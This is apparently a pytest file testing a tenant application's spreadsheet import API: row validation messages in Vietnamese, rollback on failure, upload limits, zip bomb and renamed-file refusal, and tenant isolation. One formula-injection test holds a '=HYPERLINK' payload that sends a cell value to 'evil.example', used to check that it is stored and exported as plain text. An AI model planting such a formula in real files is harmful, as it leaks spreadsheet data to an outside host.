"""Imports through the REST API: validation problems, all or nothing, limits, isolation."""

from __future__ import annotations

import io

import sqlalchemy as sa

from tenant_app.extensions import db
from tenant_app.models import User
from tenant_app.tenancy import tenant_context
from tests.spreadsheets.xlsx import USERS_HEADER, make_xlsx, read_back, user_rows, zip_bomb

BASE = "/api/v1/t/phuong-a/imports"


def upload(client, headers, data: bytes, kind="users", name="tai-khoan.xlsx", base=BASE):
    return client.post(
        base,
        data={"kind": kind, "file": (io.BytesIO(data), name)},
        headers=headers,
        content_type="multipart/form-data",
    )


def usernames(tenant) -> set[str]:
    db.session.expire_all()
    with tenant_context(tenant):
        return set(db.session.execute(sa.select(User.username)).scalars())


def problems(body) -> set[tuple[int, str]]:
    return {(p["row"], p["column"]) for p in body["problems"]}


def test_imports_clean_file_is_validated_then_committed(client, admin_a_api, tenant_a):
    """A clean file shows a preview and no problems; commit creates every account."""
    data = make_xlsx(
        [
            ["le.van.c", "Lê Văn C", "c@example.gov.vn", "Cán bộ, công chức"],
            ["pham.thi.d", "Phạm Thị D", None, "manager; staff"],
        ]
    )
    response = upload(client, admin_a_api, data)
    assert response.status_code == 202, response.get_json()
    body = response.get_json()
    assert (body["state"], body["rows"], body["problems"]) == ("ready", 2, [])
    assert body["preview"][0]["values"]["Họ và tên"] == "Lê Văn C"
    response = client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api)
    assert response.status_code == 202
    assert response.get_json()["state"] == "committed"
    assert {"le.van.c", "pham.thi.d"} <= usernames(tenant_a)
    status = client.get(f"{BASE}/{body['id']}", headers=admin_a_api).get_json()
    assert status["created"] == 2 and status["status"] == "succeeded"


def test_imports_wrong_columns_are_reported_and_nothing_changes(client, admin_a_api, tenant_a):
    """Missing and unknown columns are problems of row 1; such a file cannot be committed."""
    before = usernames(tenant_a)
    data = make_xlsx([["x.y.z", "X", "khách"]], header=["Tên đăng nhập", "Tên", "Chức vụ"])
    body = upload(client, admin_a_api, data).get_json()
    assert body["state"] == "invalid"
    assert problems(body) == {(1, "Tên"), (1, "Chức vụ"), (1, "Họ và tên"), (1, "Vai trò")}
    assert client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api).status_code == 409
    assert usernames(tenant_a) == before


def test_imports_bad_values_are_reported_by_row_and_column(client, admin_a_api, tenant_a):
    """Bad types and empty required cells are listed by row and header, in Vietnamese."""
    before = usernames(tenant_a)
    data = make_xlsx(
        [
            ["tot.lam", "Tốt Lắm", None, "staff"],
            ["có dấu", "Sai Tên", "không-phải-email", "staff"],
            ["thieu.ten", None, None, "giám đốc"],
        ]
    )
    body = upload(client, admin_a_api, data).get_json()
    assert body["state"] == "invalid"
    by_cell = {(p["row"], p["column"]): p["message"] for p in body["problems"]}
    assert by_cell[(3, "Tên đăng nhập")] == "Không đúng định dạng."
    assert by_cell[(3, "Thư điện tử")] == "Địa chỉ thư điện tử không hợp lệ."
    assert by_cell[(4, "Họ và tên")] == "Ô bắt buộc, không được để trống."
    assert set(by_cell) == {(3, "Tên đăng nhập"), (3, "Thư điện tử"), (4, "Họ và tên")}
    assert client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api).status_code == 409
    assert usernames(tenant_a) == before


def test_imports_unknown_role_is_reported(client, admin_a_api):
    """A role that is neither a code nor a Vietnamese label is a problem of the roles column."""
    body = upload(client, admin_a_api, make_xlsx([["vai.tro", "Vai Trò", None, "giám đốc"]]))
    assert problems(body.get_json()) == {(2, "Vai trò")}


def test_imports_duplicate_usernames_are_reported(client, admin_a_api, tenant_a, staff_a):
    """A username repeated in the file, or already in the unit, is a problem; nothing is written."""
    before = usernames(tenant_a)
    data = make_xlsx(
        [
            ["moi.mot", "Mới Một", None, "staff"],
            ["MOI.MOT", "Mới Một Lặp", None, "staff"],
            ["staff.a", "Đã Có", None, "staff"],
        ]
    )
    body = upload(client, admin_a_api, data).get_json()
    messages = {(p["row"], p["message"]) for p in body["problems"]}
    assert messages == {
        (3, "Trùng tên đăng nhập với dòng 2."),
        (4, "Tên đăng nhập đã có trong đơn vị."),
    }
    assert usernames(tenant_a) == before


def test_imports_formula_cell_is_plain_text_in_and_out(client, admin_a_api, tenant_a):
    """'=HYPERLINK(...)' is stored as the text typed, and exported back as a text cell."""
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"Bấm vào đây")'
    body = upload(client, admin_a_api, make_xlsx([["cong.thuc", formula, None, "staff"]]))
    body = body.get_json()
    assert body["state"] == "ready", body
    client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api)
    with tenant_context(tenant_a):
        user = db.session.execute(sa.select(User).where(User.username == "cong.thuc")).scalar_one()
    assert user.full_name == formula
    export = client.get("/api/v1/t/phuong-a/exports/users.xlsx", headers=admin_a_api)
    assert export.status_code == 200
    sheet = read_back(export.data)
    cell = next(r[1] for r in sheet.iter_rows(min_row=2) if r[0].value == "cong.thuc")
    assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)


def test_imports_oversized_upload_is_413(app, client, admin_a_api):
    """A request above the upload limit is refused with 413 and a JSON error."""
    app.config["MAX_CONTENT_LENGTH"] = 4096
    response = upload(client, admin_a_api, make_xlsx(user_rows(300)))
    assert response.status_code == 413
    assert response.get_json()["error"]["code"]


def test_imports_zip_bomb_is_refused(client, admin_a_api, tenant_a):
    """A ZIP bomb named .xlsx is refused at upload: 400, no import recorded."""
    response = upload(client, admin_a_api, zip_bomb(60))
    assert response.status_code == 400
    assert response.get_json()["error"]["code"] == "zip_bomb"
    assert client.get(BASE, headers=admin_a_api).get_json() == []


def test_imports_non_xlsx_renamed_is_refused(client, admin_a_api):
    """A CSV renamed .xlsx is refused at upload with a Vietnamese message."""
    response = upload(client, admin_a_api, "Tên đăng nhập,Họ và tên\na,b\n".encode())
    assert response.status_code == 400
    error = response.get_json()["error"]
    assert error["code"] == "not_xlsx" and "xlsx" in error["message"]


def test_imports_unknown_kind_is_404(client, admin_a_api):
    """An import kind nobody registered is 404."""
    assert upload(client, admin_a_api, make_xlsx([]), kind="khong-co").status_code == 404


def test_imports_error_on_last_row_leaves_no_new_user(client, admin_a_api, tenant_a, monkeypatch):
    """When writing the last row fails, the rows before it are not written either."""
    from tenant_app.services.workspace import accounts

    real = accounts.create_user

    def failing_on_last(**kwargs):
        if kwargs["username"] == "cuoi.cung":
            raise RuntimeError("mất kết nối cơ sở dữ liệu")
        return real(**kwargs)

    monkeypatch.setattr(accounts, "create_user", failing_on_last)
    before = usernames(tenant_a)
    rows = [["dau.tien", "Đầu Tiên", None, "staff"], ["thu.hai", "Thứ Hai", None, "staff"]]
    rows.append(["cuoi.cung", "Cuối Cùng", None, "staff"])
    body = upload(client, admin_a_api, make_xlsx(rows)).get_json()
    assert body["state"] == "ready"
    body = client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api).get_json()
    assert body["state"] == "failed"
    assert usernames(tenant_a) == before


def test_imports_commit_checks_again_against_the_database(client, admin_a_api, factory, tenant_a):
    """A username taken after validation fails the commit with the problem listed; no row lands."""
    rows = [["som.mot", "Sớm Một", None, "staff"], ["tre.hai", "Trễ Hai", None, "staff"]]
    body = upload(client, admin_a_api, make_xlsx(rows)).get_json()
    factory.user(tenant_a, "tre.hai")
    body = client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api).get_json()
    assert body["state"] == "failed"
    assert problems(body) == {(3, "Tên đăng nhập")}
    assert "som.mot" not in usernames(tenant_a)


def test_imports_5000_rows_run_with_progress(
    client, admin_a_api, tenant_a, fast_hashing, monkeypatch
):
    """A 5,000-row import records progress every 100 rows and commits every row.

    About 8 s on an idle machine (cheap hashing); no wall-clock assertion, CI machines are shared.
    """
    from tenant_app.jobs import imports as import_jobs

    seen = []
    real = import_jobs.report_progress

    def spy(done, total=None, message=None):
        seen.append((done, total))
        real(done, total, message)

    monkeypatch.setattr(import_jobs, "report_progress", spy)
    data = make_xlsx(user_rows(5000))
    body = upload(client, admin_a_api, data).get_json()
    assert body["state"] == "ready", body["problems"][:3]
    assert (body["progress_done"], body["progress_total"]) == (5000, 5000)
    assert [d for d, t in seen if t == 5000][:3] == [100, 200, 300]
    assert len([d for d, _t in seen if d and d % 100 == 0]) >= 50
    body = client.post(f"{BASE}/{body['id']}/commit", headers=admin_a_api).get_json()
    assert body["state"] == "committed" and body["created"] == 5000
    assert len(usernames(tenant_a)) >= 5000


def test_imports_list_and_status_are_for_unit_admins_only(client, tenant_a, staff_a):
    """A staff member's token cannot list or upload imports (403)."""
    from tests.helpers import bearer, token_for

    headers = bearer(token_for(client, "phuong-a", "staff.a"))
    assert client.get(BASE, headers=headers).status_code == 403
    assert upload(client, headers, make_xlsx([])).status_code == 403


def test_imports_of_other_tenant_are_404(client, admin_a_api, admin_b_api):
    """Tenant B's admin gets 404 for tenant A's import, status and commit; the list is empty."""
    body = upload(client, admin_a_api, make_xlsx([["a.chi", "A Chi", None, "staff"]])).get_json()
    other = f"/api/v1/t/phuong-b/imports/{body['id']}"
    assert client.get(other, headers=admin_b_api).status_code == 404
    assert client.post(f"{other}/commit", headers=admin_b_api).status_code == 404
    assert client.get("/api/v1/t/phuong-b/imports", headers=admin_b_api).get_json() == []
    assert client.get(f"{BASE}/{body['id']}", headers=admin_a_api).status_code == 200


def test_imports_template_and_export_downloads(client, admin_a_api, staff_a):
    """The template and the export are .xlsx downloads with the Vietnamese headers."""
    template = client.get(f"{BASE}/templates/users.xlsx", headers=admin_a_api)
    assert template.status_code == 200
    assert [c.value for c in read_back(template.data)[1]] == USERS_HEADER
    export = client.get("/api/v1/t/phuong-a/exports/users.xlsx", headers=admin_a_api)
    rows = list(read_back(export.data).iter_rows(values_only=True))
    assert rows[0][:4] == tuple(USERS_HEADER[:4])
    assert ("staff.a", "Nguyễn Văn A", None, "Cán bộ, công chức", "Có") in rows


def test_imports_are_in_the_openapi_document(client):
    """Every import and export route is documented."""
    paths = client.get("/api/v1/openapi.json").get_json()["paths"]
    for path in (
        "/api/v1/t/{tenant_slug}/imports",
        "/api/v1/t/{tenant_slug}/imports/{import_id}",
        "/api/v1/t/{tenant_slug}/imports/{import_id}/commit",
        "/api/v1/t/{tenant_slug}/imports/templates/{kind}.xlsx",
        "/api/v1/t/{tenant_slug}/exports/{kind}.xlsx",
    ):
        assert path in paths
